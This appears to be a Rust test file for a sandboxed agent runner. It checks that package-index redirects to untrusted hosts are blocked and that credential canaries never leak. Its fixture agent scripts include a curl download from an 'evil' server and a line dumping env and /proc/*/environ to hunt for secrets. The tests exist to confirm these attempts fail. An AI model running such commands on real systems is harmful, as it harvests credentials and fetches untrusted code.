//! Clients as their user has configured them: programs that play them say so, and servers on loopback are their registries.

use std::fs;
use std::path::Path;

use holon_testkit::{TestEnv, for_each_identity};
use serde_json::Value;

use super::{AskedServer, BIN, line, printed};

/// A folder with programs that answer as clients do, to stand before all others.
pub(super) fn clients(env: &TestEnv, all: &[(&str, String)]) -> String {
    for (name, script) in all {
        env.agent(name, &format!("#!/bin/sh\n{script}\n"));
    }
    let path = std::env::var("PATH").unwrap_or_default();
    format!("{}:{path}", env.root().join("agents").display())
}

fn planned(run: &Path) -> Value {
    serde_json::from_slice(&fs::read(run.join("run-plan.json")).unwrap()).unwrap()
}

#[test]
fn an_index_tells_the_host_where_its_files_are_and_the_run_cannot() {
    for_each_identity(BIN, |env| {
        let evil = AskedServer::start();
        let leads = evil.address;
        let index = AskedServer::answering(move |path| {
            let page = match path {
                "/simple/pip/" => {
                    "<a href=\"http://files.test/p/pip-26.0-py3-none-any.whl\">pip</a>".to_owned()
                }
                _ => format!(
                    "<a href=\"http://{leads}/x/pip-26.0.tar.gz\">x</a><a href=\"http://evil.test/pip-1.0.zip\">"
                ),
            };
            ("text/html", page)
        });
        let own = index.address;
        let pip = format!(
            "case \"$*\" in --version) echo pip 26;; 'config list') echo \"global.index-url='http://me:s3cret-canary@{own}/simple/'\"; \
             echo \"global.extra-index-url='http://{own}/simple'\";; esac"
        );
        let path = clients(env, &[("pip", pip)]);
        let agent = env.agent(
            "installs.sh",
            &format!(
                "#!/bin/sh\necho '# Summary\nAsked.' > /holon/output/summary.md\n\
                 get() {{ name=$1; shift; curl -s --max-time 20 -o body --write-out \"$name %{{http_code}}\\n\" \"$@\"; rm -f body; }}\n\
                 get page http://{own}/simple/evil/\n\
                 get led http://{leads}/x/pip-26.0.tar.gz\n\
                 get token 'http://{own}/token?scope=a:push'\n\
                 tr '\\n' ' ' < \"$PIP_CONFIG_FILE\"; echo\n"
            ),
        );
        let repo = env.repo().file("a", "1\n").commit("first");
        let call =
            env.holon(["run", "--goal", "x", "--json", "--no-auto-checks", "--allow-net", "pip", "--agent"]);
        let run = call.arg(&agent).env("PATH", &path).cwd(repo.path()).run();
        run.assert_code(0);
        let lines = printed(&run);
        assert_eq!(line(&lines, "page "), "page 200", "{lines:#?}");
        assert_eq!(line(&lines, "led "), "led 403", "{lines:#?}");
        assert_eq!(line(&lines, "token "), "token 403", "{lines:#?}");
        let told = line(&lines, "[global]");
        assert!(told.contains(&format!("index-url =     http://{own}/simple/")), "{told}");
        assert!(evil.asked().is_empty());
        let plan = planned(&env.runs()[0]);
        assert_eq!(plan["permits"][0]["file_hosts"], serde_json::json!(["files.test:80"]), "{plan:#}");
        assert!(holon_testkit::files_containing(&env.state(), "s3cret-canary").is_empty());
    });
}

#[test]
fn npm_inside_knows_the_registry_of_its_user() {
    for_each_identity(BIN, |env| {
        let registry = AskedServer::start();
        let own = registry.address;
        let json = format!(
            "{{\"registry\":\"http://{own}/npm/\",\"@own:registry\":\"http://me:s3cret-canary@{own}/own/\"}}"
        );
        let path = clients(env, &[("npm", format!("echo '{json}'"))]);
        let agent = env.agent(
            "installs.sh",
            "#!/bin/sh\necho '# Summary\nAsked.' > /holon/output/summary.md\n\
             cat \"$npm_config_userconfig\"\n\
             url=$(sed -n 's/^registry=//p' \"$npm_config_userconfig\")\n\
             echo \"got $(curl -s --max-time 20 ${url}left-pad)\"\n",
        );
        let repo = env.repo().file("a", "1\n").commit("first");
        let call =
            env.holon(["run", "--goal", "x", "--json", "--no-auto-checks", "--allow-net", "npm", "--agent"]);
        let run = call.arg(&agent).env("PATH", &path).cwd(repo.path()).run();
        run.assert_code(0);
        let lines = printed(&run);
        assert_eq!(line(&lines, "got "), "got hello inside", "{lines:#?}");
        assert_eq!(line(&lines, "@own:"), format!("@own:registry=http://{own}/own/"));
        assert_eq!(registry.asked(), ["GET /npm/left-pad HTTP/1.1"]);
        assert!(holon_testkit::files_containing(&env.state(), "s3cret-canary").is_empty());
    });
}

#[test]
fn a_credential_is_not_sent_without_encryption_and_is_nowhere_inside_or_written() {
    for_each_identity(BIN, |env| {
        let server = AskedServer::start();
        let own = server.address.to_string();
        let text = format!("[credentials.\"{own}\"]\nvariable = \"OWN_TOKEN\"\nheader = \"x-key\"\n");
        env.write("config/holon/config.toml", text);
        let agent = env.agent(
            "asks.sh",
            &format!(
                "#!/bin/sh\necho '# Summary\nAsked.' > /holon/output/summary.md\n\
                 echo \"got $(curl -s --max-time 20 -H 'x-key: placeholder' http://{own}/x)\"\n\
                 echo \"put $(curl -s --max-time 20 -X PUT -d away http://{own}/x)\"\n\
                 env; cat /proc/*/environ /holon/network/* 2>/dev/null | tr '\\0' '\\n'\n"
            ),
        );
        let repo =
            env.repo().file("a", "1\n").file("holon.toml", "[credentials.\"a.test\"]\nvariable = \"X\"\n");
        let repo = repo.commit("first");
        let call =
            env.holon(["run", "--goal", "x", "--json", "--no-auto-checks", "--allow-net", &own, "--agent"]);
        let run = call.arg(&agent).env("OWN_TOKEN", "canary-4711-token").cwd(repo.path()).run();
        run.assert_code(0);
        let lines = printed(&run);
        assert_eq!(line(&lines, "got "), "got hello inside", "{lines:#?}");
        assert!(line(&lines, "put ").contains("may only be read"), "{lines:#?}");
        assert!(!lines.iter().any(|line| line.contains("canary-4711")), "{lines:#?}");
        assert_eq!(server.asked(), ["GET /x HTTP/1.1"]);
        assert!(holon_testkit::files_containing(&env.state(), "canary-4711").is_empty());
        let plan = planned(&env.runs()[0]);
        assert_eq!(plan["credentials"], serde_json::json!([own]));
        assert!(plan["warnings"].to_string().contains("has no effect: only yours counts"), "{plan:#}");
        // What cannot be read stops the run before it begins, and is not shown.
        let call = env.holon(["run", "--goal", "x", "--allow-net", &own, "--agent"]).arg(&agent);
        call.cwd(repo.path()).run().assert_code(64).assert_stderr("the variable OWN_TOKEN is not set");
    });
}
